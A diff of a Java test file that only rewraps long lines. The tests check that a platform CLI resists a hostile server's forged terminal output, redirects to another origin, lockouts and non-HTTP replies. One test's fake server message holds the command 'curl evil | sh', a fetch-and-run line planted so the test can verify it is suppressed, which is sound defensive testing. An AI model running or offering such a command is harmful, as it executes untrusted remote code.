@@ -121,7 +121,8 @@ class HttpRulesTest {
     void anErrorCannotForgeOutput() {
         server.on(APPS, status(500, "text/plain", "bad\u001b[2J\u001b[31m\rerror: forged\nhint: curl evil | sh"));
         var run = cli.run("status").failsWith(1, "");
-        assertTrue(run.stderr().lines().filter(line -> line.startsWith("hint: curl")).findAny().isEmpty(), "a hint of the server's making: " + run);
+        assertTrue(run.stderr().lines().filter(line -> line.startsWith("hint: curl")).findAny().isEmpty(),
+            "a hint of the server's making: " + run);
         assertTrue(run.stderr().indexOf('\r') < 0, "a carriage return: " + run);
     }
 
@@ -233,15 +234,19 @@ class HttpRulesTest {
     @ParameterizedTest
     @ValueSource(strings = {"1", "900"})
     void theLockOutIsNotTriedAgain(String seconds) {
-        server.on(APPS, status(429, "application/json", "{\"error\":\"Too many failed attempts. Try again later.\"}\n", "Retry-After: " + seconds));
-        cli.run("status").failsWith(1, "Too many failed attempts. Try again later.\nhint: wait " + seconds + " s before you do anything else: each further try with a ");
+        server.on(APPS, status(429, "application/json", "{\"error\":\"Too many failed attempts. Try again later.\"}\n", "Retry-After: "
+            + seconds));
+        cli.run("status").failsWith(1, "Too many failed attempts. Try again later.\nhint: wait " + seconds
+            + " s before you do anything else: each further try with a ");
         assertEquals(1, server.count(APPS));
     }
 
     @Test
     void aWrongAdminTokenIsVerifiedOnce() {
-        server.on("POST /api/auth/verify", status(429, "application/json", "{\"error\":\"Too many failed attempts. Try again later.\"}\n", "Retry-After: 2"));
-        cli.env("PAAS_ADMIN_TOKEN", "0123456789abcdef0123").run("connect", server.url(), "--legacy").exits(1).calm().complainsPart("error: Too many failed attempts. Try again later.\n");
+        server.on("POST /api/auth/verify", status(429, "application/json", "{\"error\":\"Too many failed attempts. Try again later.\"}\n",
+            "Retry-After: 2"));
+        cli.env("PAAS_ADMIN_TOKEN", "0123456789abcdef0123").run("connect", server.url(), "--legacy").exits(1).calm()
+            .complainsPart("error: Too many failed attempts. Try again later.\n");
         assertEquals(1, server.count("POST /api/auth/verify"));
     }
 
@@ -319,8 +324,10 @@ class HttpRulesTest {
     @Test
     void aRedirectToAnotherOriginIsRefused() {
         try (var other = HostileServer.healthy()) {
-            for (var target : List.of(other.url() + "/api/apps", "//127.0.0.1:" + other.port() + "/api/apps", "http://localhost:" + server.port() + "/api/apps",
-                "https://127.0.0.1:" + server.port() + "/api/apps", "http://127.0.0.1:" + server.port() + "@127.0.0.1:" + other.port() + "/api/apps")) {
+            for (var target : List.of(other.url() + "/api/apps", "//127.0.0.1:" + other.port() + "/api/apps", "http://localhost:"
+                + server.port() + "/api/apps",
+                "https://127.0.0.1:" + server.port() + "/api/apps", "http://127.0.0.1:" + server.port() + "@127.0.0.1:" + other.port()
+                + "/api/apps")) {
                 server.on(APPS, redirect(302, target));
                 cli.run("status").failsWith(1, "");
             }
@@ -354,8 +361,10 @@ class HttpRulesTest {
 
     @Test
     void anAnswerThatIsNoHttp() {
-        var words = server.url() + " answers, but not in HTTP\nhint: check the port, and whether the address begins with http:// or https://\n";
-        for (var answer : List.of("SSH-2.0-OpenSSH_9.2\r\n", "\u0015\u0003\u0003\0\2\2(\r\n\r\n", "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
+        var words = server.url()
+            + " answers, but not in HTTP\nhint: check the port, and whether the address begins with http:// or https://\n";
+        for (var answer : List.of("SSH-2.0-OpenSSH_9.2\r\n", "\u0015\u0003\u0003\0\2\2(\r\n\r\n",
+            "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n",
             "HTTP/1.1 200 OK\r\nX: " + "x".repeat(MIB) + "\r\n\r\n")) {
             server.on(APPS, raw(answer));
             cli.run("status").failsWith(8, words);
